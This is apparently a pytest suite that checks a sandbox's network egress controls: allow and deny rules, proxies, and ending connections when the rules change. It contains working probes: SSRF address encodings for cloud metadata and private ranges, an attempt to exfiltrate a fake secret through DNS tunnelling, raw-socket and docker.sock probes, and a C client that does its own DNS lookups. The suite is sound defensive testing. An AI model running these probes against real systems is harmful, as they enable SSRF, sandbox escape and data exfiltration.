"""What a sandbox can reach is what the rules say, whatever program asks and however; nothing else leaves."""

import base64
import contextlib
import json
import os
import shutil
import ssl
import subprocess
import sys
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from coldframe.client.models import CommandAnswer
from coldframe.client.sync import SyncColdframe, SyncSandbox
from coldframe.contract.errors import DeniedByRule, InvalidArgument
from coldframe.contract.network import NetworkContact
from coldframe.contract.policy import Outcome, Role
from tests.host.egress.world import FAR, PROXY_PORT
from tests.installation import CHECKOUT, Installation, wait_until
from tests.promises.governed import token_of
from tests.reachable import Reachable, alone, command_line

RULES = """version: 1
network:
  profiles:
    list:
      rules:
        - {{id: api, to: api.example.com, ports: [443, 80, 8080], scheme: [https, http]}}
        - {{id: read-only, to: other.example.com, methods: [GET], paths: [/v1/], ports: 8443}}
        - {{id: no-secrets, to: other.example.com, paths: [/v1/seen], ports: 8443, then: deny, reason: not for you}}
        - {{id: echo, to: ssh.example.com, scheme: tcp, mode: raw, ports: 9000}}
    other:
      rules:
        - {{id: other, to: other.example.com}}
  use:
{use}
"""
CURL = "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' {url}"
PYTHON = """
import sys, urllib.error, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=20).status)
except urllib.error.HTTPError as error:
    print(error.code)
"""
NODE = "fetch(process.argv[1]).then(r => console.log(r.status), e => {console.error(e); process.exit(7)})"


def rules(**use: str) -> str:
    lines = [f'    "{whom.replace("_", ":", 1).replace("everybody", "*")}": {profile}' for whom, profile in use.items()]
    return RULES.format(use="\n".join(lines))


def contacts(sandbox: SyncSandbox, **wanted: str) -> list[NetworkContact]:
    """All but the names that were looked up and exist."""
    logged = [one.contact for one in sandbox.network_log(limit=1000, **wanted).contacts]  # type: ignore[arg-type]
    return [one for one in logged if one.lookup is None or one.outcome is Outcome.DENY]


def refused(sandbox: SyncSandbox, commands: Sequence[CommandAnswer]) -> set[str]:
    """Names and addresses that were not reached; without a network only the commands tell."""
    told = {one.name or one.address for done in commands for one in done.contacts if one.verdict == "refused"}
    return told | {one.name or one.address for one in contacts(sandbox) if one.dialled is None}


def status(sandbox: SyncSandbox, url: str) -> str:
    """What curl says: a status, or `000` if there was no answer."""
    return str(sandbox.run_command(CURL.format(url=url)).stdout)


@pytest.mark.req("T1.05")
def test_allowed_hosts_are_reached_denied_and_unlisted_ones_not_and_a_change_holds_for_the_next_connection(
    room: Reachable,
) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_listed="list"))
        with client.sandboxes.create("listed") as box:
            assert box.info.network == ("list",)
            assert status(box, "https://api.example.com/") == "200"
            assert status(box, "https://other.example.com:8443/v1/text") == "200"
            assert status(box, "https://other.example.com:8443/v1/seen") == "403"
            assert status(box, "https://ssh.example.com/") == "000"
            assert status(box, "https://nobody.example.org/") == "000"
            client.policy.load(rules(agent_listed="other"))
            assert status(box, "https://api.example.com/") == "000"
            assert status(box, "https://other.example.com/") == "200"
            client.policy.load(rules(agent_listed="list"))
            assert status(box, "https://api.example.com/") == "200"

    room.use(steps)


RESUMED = """
import json, os, socket, time, urllib.request
def look():
    with urllib.request.urlopen("https://api.example.com/", timeout=20) as answer:
        status = answer.status
    return [status, socket.getaddrinfo("api.example.com", 443)[0][4][0], time.time()]
first = look()
open("looked", "w").close()
while not os.path.exists("go"):
    time.sleep(0.02)
print(json.dumps([first, look()]))
"""


@pytest.mark.req("T4.61")
def test_names_tls_and_the_clock_are_right_at_once_when_a_pause_is_over(room: Reachable) -> None:
    """At the first try, of a program that has stood still and of one that begins then."""

    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_resumed="list"))
        with client.sandboxes.create("resumed") as box:
            if "memory" not in box.report().pause_kinds:
                return
            box.write_file("look.py", RESUMED)
            job = box.start(["python3", "look.py"])
            wait_until(lambda: any(one.name == "looked" for one in box.list_directory().entries), "it has looked")
            box.pause()
            box.resume()
            box.write_file("go", "")
            assert status(box, "https://api.example.com/") == "200"
            assert status(box, "https://ssh.example.com/") == "000"
            done = job.wait().result
            assert done is not None
            assert done.exit_code == 0, job.output("stderr")
            before, after = json.loads(job.output())
            assert before[:2] == after[:2]
            assert done.started_at.timestamp() - 1 <= before[2] <= after[2] <= done.ended_at.timestamp() + 1
            allowed = [one for one in contacts(box) if one.outcome is Outcome.ALLOW]
            assert len(allowed) == 3

    room.use(steps)


DESTINATIONS = (
    "https://api.example.com/",
    "http://api.example.com/",
    "https://other.example.com:8443/v1/text",
    "https://other.example.com:8443/v1/seen",
    "https://other.example.com/",
    "https://inner.example.com/",
    "https://nobody.example.org/",
    "https://93.184.215.14/",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:5432/",
    "http://10.9.9.9/",
    "https://[::1]/",
)
PRESETS = {
    "none": (),
    "packages": (),
    "list": DESTINATIONS[:3],
    "open": DESTINATIONS[:5],
}
"""What each lets a program reach."""
each_preset = pytest.mark.parametrize("profile", PRESETS)
OPEN_PROXY = dict.fromkeys(("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"), f"http://{FAR}:{PROXY_PORT}")
"""One outside, which would fetch anything for anybody who can get to it."""


@pytest.mark.req("T4.70", "T1.05")
@each_preset
def test_each_preset_lets_every_client_reach_what_it_says_with_and_without_a_proxy_set(
    room: Reachable, profile: str
) -> None:
    clients: list[tuple[str, Sequence[str]]] = [
        ("curl", ["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}"]),
        ("python", ["python3", "-c", PYTHON]),
        ("node", ["node", "-e", NODE]),
    ]
    reached = PRESETS[profile]

    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(everybody=profile))
        with client.sandboxes.create(f"preset-{profile}") as box:

            def got(words: Sequence[str], urls: Sequence[str], **env: str) -> tuple[str, ...]:
                done = [(url, box.run_command([*words, url], env=env)) for url in urls]
                return tuple(url for url, one in done if one.exit_code == 0 and str(one.stdout).strip() == "200")

            for name, words in clients:
                assert got(words, DESTINATIONS) == reached, name
            # who heeds a proxy asks one that nobody may reach, and who heeds none is judged all the same
            few = (DESTINATIONS[1], DESTINATIONS[6])
            for _, words in clients[:2]:
                assert got(words, few, **OPEN_PROXY) == ()
            for words in ([*clients[0][1], "--noproxy", "*"], clients[2][1]):
                assert got(words, few, **OPEN_PROXY) == tuple(url for url in few if url in reached)
            assert all(one.outcome.value == "deny" for one in contacts(box, host=FAR))

    room.use(steps)


@pytest.mark.req("T4.70", "T1.99")
@each_preset
def test_a_static_program_with_a_resolver_of_its_own_is_governed_all_the_same(
    room: Reachable, profile: str, static_client: bytes
) -> None:
    """It asks for nothing by TLS but who is there, so it does not get to where a path would be refused."""
    greetings = {url: _greeting(url) for url in DESTINATIONS}
    reached = [url for url in DESTINATIONS if url in PRESETS[profile] or (profile == "list" and url == DESTINATIONS[3])]

    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(everybody=profile))
        with client.sandboxes.create(f"static-{profile}") as box:
            box.upload("client", static_client)
            box.run_command("chmod +x client")
            commands: list[CommandAnswer] = []

            def reaches(url: str, **env: str) -> bool:
                site = urlsplit(url)
                port = site.port or {"https": 443, "http": 80}[site.scheme]
                command = ["./client", str(site.hostname), str(port)]
                done = box.run_command(command, stdin=greetings[url], env=env, encoding="base64")
                commands.append(done)
                begin = b"\x16\x03" if site.scheme == "https" else b"HTTP/1.1 200"
                return done.exit_code == 0 and base64.b64decode(done.stdout_base64 or "").startswith(begin)

            assert [url for url in DESTINATIONS if reaches(url)] == reached
            for url in (DESTINATIONS[1], DESTINATIONS[6]):
                assert reaches(url, **OPEN_PROXY) == (url in reached)
            assert {"nobody.example.org", "169.254.169.254"} <= refused(box, commands)

    room.use(steps)


@pytest.fixture(scope="module")
def static_client(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    if shutil.which("gcc") is None:
        pytest.skip("no compiler")
    folder = tmp_path_factory.mktemp("static")
    source, program = folder / "client.c", folder / "client"
    source.write_text(STATIC_CLIENT)
    subprocess.run(["gcc", "-static", "-O1", "-o", program, source], check=True, timeout=60)
    return program.read_bytes()


def _greeting(url: str) -> bytes:
    """What a client sends first."""
    site = urlsplit(url)
    if site.scheme == "http":
        return f"GET {site.path} HTTP/1.1\r\nHost: {site.netloc}\r\nConnection: close\r\n\r\n".encode()
    sent = ssl.MemoryBIO()
    hello = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname=site.hostname)
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    return sent.read()


CLOSING = timedelta(seconds=10)
"""What is forbidden ends with the change and waits for nothing; two seconds are promised, and a busy machine is given more."""


@pytest.mark.req("T4.70")
def test_a_change_of_the_rules_ends_what_is_open_and_forbidden_now(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_open="list"))
        with client.sandboxes.create("open") as box:
            line = "exec 3<>/dev/tcp/ssh.example.com/9000; echo begun >&3; head -1 <&3; cat <&3; echo over"
            command = box.run_command(line, background=True).command_id
            wait_until(lambda: b"begun" in box.output(command).data, "the connection carries bytes")
            before = datetime.now(UTC)
            client.policy.load(rules(agent_open="other"))
            loaded = datetime.now(UTC)
            wait_until(lambda: b"over" in box.output(command).data, "the connection has ended", timeout_s=30)
            (contact,) = contacts(box, host="ssh.example.com")
            assert contact.ended == "ended by a change of the rules"
            assert contact.ended_at is not None
            assert before <= contact.ended_at <= loaded + CLOSING

    room.use(steps)


@pytest.mark.req("T4.70")
def test_a_refused_request_tells_the_program_why(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_told="list"))
        with client.sandboxes.create("told") as box:
            done = box.run_command("curl -sS -m 20 https://other.example.com:8443/v1/seen")
            assert '"rule": "no-secrets"' in str(done.stdout).replace('":"', '": "')
            assert "not for you" in str(done.stdout)
            done = box.run_command("curl -sS -m 20 -X POST https://other.example.com:8443/v1/text")
            assert "no rule of profile `list`" in str(done.stdout)

    room.use(steps)


@pytest.mark.req("T4.70")
def test_nobody_gets_more_than_the_rules_give_whatever_is_asked_for(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(everybody="list", agent_narrow="other"))
        with client.sandboxes.create("narrow", network="open") as box:
            assert box.info.network == ("open", "other", "list")
            assert status(box, "https://api.example.com/") == "000"
            assert status(box, "https://other.example.com/") == "000"
        with client.sandboxes.create("wide", network="open") as box:
            assert status(box, "https://api.example.com/") == "200"
            assert status(box, "https://other.example.com/") == "000"
        with pytest.raises(InvalidArgument, match="`opne`"):
            client.sandboxes.create("wide", network="opne")
        with SyncColdframe(client.url, token_of(client, Role.MEMBER)) as member:
            client.policy.load(rules(role_owner="open"))
            with pytest.raises(DeniedByRule):
                member.sandboxes.create("wide", network="open")
            with client.sandboxes.create("wide") as box, member.sandboxes.create("wide") as without:
                assert (box.info.network, without.info.network) == (("open",), None)

    room.use(steps)


def test_the_command_line_asks_for_a_network_with_and_without_a_server(room: Reachable) -> None:
    url = "http://api.example.com:8080/v1/text"

    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(rules(role_owner="open"))
            made = installation.cli("sandbox", "create", "--agent", "typed", "--network", "open", "--json")
            sandbox = json.loads(made.stdout)
            assert sandbox["network"] == ["open"]
            assert b"network by the profiles open" in installation.cli("sandbox", "show", sandbox["sandbox_id"]).stdout
            client.sandboxes.get(sandbox["sandbox_id"]).terminate()
        run = ("run", "--network", "open", "--", "curl", "-sS", "-m", "20", url)
        assert installation.cli(*run).stdout == b"some text"
        closed = installation.cli("run", "--network", "none", "--", "curl", "-sS", "-m", "20", url)
        assert (closed.returncode, closed.stdout) == (6, b"")
        assert installation.cli("run", "--network", "opne", "--", "true").returncode == 2

    room.run(steps)

    def without_server(other: Installation) -> None:
        embedded = Installation()
        try:
            os.mkdir(embedded.data_dir, 0o755)
            words = [
                sys.executable,
                "-m",
                "coldframe.cli",
                "run",
                "--network",
                "open",
                "--",
                "curl",
                "-sS",
                "-m",
                "20",
                url,
            ]

            def run() -> subprocess.CompletedProcess[bytes]:
                return subprocess.run(words, env=embedded.environment, cwd=CHECKOUT, capture_output=True, timeout=60)

            # an owner may choose where no rule says anything, and not where one says no
            Path(embedded.data_dir, "rules.yaml").write_text(rules(everybody="none"))
            refused = run()
            assert refused.returncode == 3, refused.stderr
            Path(embedded.data_dir, "rules.yaml").write_text(rules(everybody="open"))
            reached = run()
            assert reached.stdout == b"some text", reached.stderr
        finally:
            assert embedded.close() == []

    room.run(without_server)


@pytest.mark.req("T1.100", "T3.07")
def test_private_and_metadata_addresses_and_names_that_resolve_to_them_are_refused_and_on_record(
    room: Reachable,
) -> None:
    vectors = [
        *("127.0.0.1", "127.1", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1"),
        *("100.100.100.200", "168.63.129.16", "198.18.0.9", "224.0.0.1", "255.255.255.255", "[::1]", "[::]"),
        *("[fe80::1]", "[fc00::1]", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]"),
        *("[2002:a9fe:a9fe::1]", "0x7f.1", "2130706433", "017700000001", "169.254.43518"),
    ]

    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_private="open"))
        with client.sandboxes.create("private") as box:
            for vector in [*vectors, "inner.example.com", "localhost", "metadata.google.internal"]:
                for scheme in ("http", "https"):
                    done = box.run_command(["curl", "-fsS", "-m", "20", "-o", "/dev/null", f"{scheme}://{vector}/"])
                    assert done.exit_code not in (0, 28), vector
            seen = contacts(box)
            assert {one.dialled for one in seen} == {None}
            denied = [one for one in seen if one.outcome.value == "deny"]
            assert "169.254.169.254" in {one.address for one in denied}
            assert "inner.example.com" in {one.name for one in denied}

    room.use(steps)


@pytest.mark.req("T1.99")
def test_nothing_leaves_by_any_way_and_each_attempt_is_on_record(room: Reachable) -> None:
    def steps(client: SyncColdframe) -> None:
        client.policy.load(rules(agent_prober="list"))
        with client.sandboxes.create("prober") as box:
            box.write_file("prober.py", PROBER)
            done = box.run_command("python3 prober.py")
            assert done.exit_code == 0, done.stderr
            answers = dict(line.split("=", 1) for line in str(done.stdout).splitlines())
            through = {name for name, answer in answers.items() if answer == "through"}
            assert through == set(), answers
            logged = {(one.protocol, one.name or one.address, one.port) for one in contacts(box)}
            refused = {(one.protocol, one.name or one.address, one.port) for one in done.contacts}
            for attempt in [
                ("tcp", "93.184.215.14", 443),
                ("tcp", "2001:4860:4860::8888", 443),
                ("tcp", "93.184.215.15", 3128),
            ]:
                assert attempt in logged, logged
            for attempt in [("udp", "93.184.215.14", 443), ("udp", "2001:4860:4860::8888", 443)]:
                assert attempt in refused, refused
            assert any(name.endswith("tunnel.example.org") for _, name, port in logged if port == 53)

    room.use(steps)


@pytest.mark.req("T1.99")
def test_while_the_broker_is_gone_nothing_leaves_and_afterwards_it_works_again_without_a_gap() -> None:
    def steps(installation: Installation) -> None:
        with SyncColdframe(installation.url, installation.token) as client:
            client.policy.load(rules(agent_broken="list"))
            with client.sandboxes.create("broken") as box:
                assert status(box, "http://api.example.com:8080/v1/text") == "200"
                broker = _broker_of(installation)
                subprocess.run(["kill", "-STOP", str(broker)], check=True)
                stopped = box.run_command("curl -sS -m 2 -o /dev/null http://api.example.com:8080/v1/never-sent")
                assert stopped.exit_code != 0
                subprocess.run(["kill", "-KILL", str(broker)], check=True)
                done = box.run_command("curl -sS -m 30 http://api.example.com:8080/v1/seen")
                assert done.exit_code == 0, done.stderr
                assert "never-sent" not in str(done.stdout)
                assert _broker_of(installation) != broker
                kinds = [one.kind for one in client.ledger.entries(sandbox_id=box.id, limit=1000)]
                assert "network.missing" not in kinds
                allowed = [one for one in contacts(box) if one.outcome.value == "allow"]
                assert [one.requests[0].path for one in allowed] == ["/v1/text", "/v1/seen"]

    alone(steps)


def _broker_of(installation: Installation) -> int:
    """Its process: what the daemon has started of the package `egress`."""

    def find() -> int | None:
        daemons = [pid for pid in installation.processes() if b"assembly\0daemon" in command_line(pid)]
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and b"coldframe/host/egress/" in command_line(int(entry.name)):
                parent = int((entry / "stat").read_text().rpartition(")")[2].split()[1])
                if parent in daemons:
                    return int(entry.name)
        return None

    return int(wait_until(find, "there is a broker", timeout_s=30))


PROBER = r"""
import os, socket, struct
def attempt(name, step):
    try:
        step()
        print(f"{name}=through")
    except OSError as error:
        print(f"{name}={error.errno}")

def tcp(family, address, port):
    def step():
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(20)
            one.connect((address, port))
            one.sendall(b"GET / HTTP/1.0\r\n\r\n")
            if not one.recv(10):
                raise ConnectionResetError(104, "reset")
    return step

def udp(family, address, port, data=b"x"):
    def step():
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.settimeout(2)
            one.connect((address, port))
            one.send(data)
            one.send(data)
            one.recv(10)
    return step

def raw(family, kind, protocol, address):
    def step():
        with socket.socket(family, kind, protocol) as one:
            one.sendto(struct.pack(">BBHHH", 8, 0, 0xf7ff, 0, 0), (address, 0))
            one.settimeout(1)
            one.recv(10)
    return step

def unix(address):
    def step():
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(address)
    return step

def look_up():
    secret = "0123456789abcdef" * 3
    socket.getaddrinfo(f"{secret}.tunnel.example.org", 443)

v4, v6 = socket.AF_INET, socket.AF_INET6
attempt("tcp4", tcp(v4, "93.184.215.14", 443))
attempt("tcp6", tcp(v6, "2001:4860:4860::8888", 443))
attempt("proxy", tcp(v4, "93.184.215.15", 3128))
attempt("quic", udp(v4, "93.184.215.14", 443))
attempt("udp6", udp(v6, "2001:4860:4860::8888", 443))
attempt("ntp", udp(v4, "93.184.215.14", 123))
attempt("look-up", look_up)
attempt("ping", raw(v4, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, "93.184.215.14"))
attempt("raw", raw(v4, socket.SOCK_RAW, socket.IPPROTO_ICMP, "93.184.215.14"))
attempt("sctp", lambda: socket.socket(v4, socket.SOCK_STREAM, 132).connect(("93.184.215.14", 443)))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).send(b"x" * 60))
attempt("unix", unix("/run/docker.sock"))
attempt("dbus", unix("/run/dbus/system_bus_socket"))
attempt("abstract", unix("\0/tmp/.X11-unix/X0"))
"""

STATIC_CLIENT = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static struct timeval patience = {20, 0};

static int look_up(char *name, struct in_addr *found) {
    unsigned char ask[512] = {0x12, 0x34, 1, 0, 0, 1}, answer[512];
    int at = 12;
    for (char *part = strtok(strdup(name), "."); part; part = strtok(NULL, ".")) {
        ask[at++] = strlen(part);
        memcpy(ask + at, part, strlen(part));
        at += strlen(part);
    }
    at++;
    ask[at + 1] = 1, ask[at + 3] = 1;
    struct sockaddr_in server = {AF_INET, htons(53)};
    inet_pton(AF_INET, "8.8.8.8", &server.sin_addr);
    int names = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(names, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (connect(names, (void *)&server, sizeof server) || send(names, ask, at + 4, 0) < 0) return 1;
    int got = recv(names, answer, sizeof answer, 0);
    if (got < 16 || !(answer[6] << 8 | answer[7])) return 2;
    memcpy(found, answer + got - 4, 4);
    return 0;
}

int main(int count, char **words) {
    struct sockaddr_in site = {AF_INET, htons(atoi(words[2]))};
    struct sockaddr_in6 site6 = {AF_INET6, htons(atoi(words[2]))};
    int is6 = inet_pton(AF_INET6, words[1], &site6.sin6_addr);
    if (!is6 && !inet_pton(AF_INET, words[1], &site.sin_addr)) {
        int failed = look_up(words[1], &site.sin_addr);
        if (failed) return failed;
    }
    int one = socket(is6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
    setsockopt(one, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    if (is6 ? connect(one, (void *)&site6, sizeof site6) : connect(one, (void *)&site, sizeof site)) return 3;
    char text[8192];
    int size = fread(text, 1, sizeof text, stdin);
    if (write(one, text, size) != size) return 4;
    size = read(one, text, sizeof text);
    if (size <= 0) return 5;
    fwrite(text, 1, size, stdout);
    return 0;
}
"""
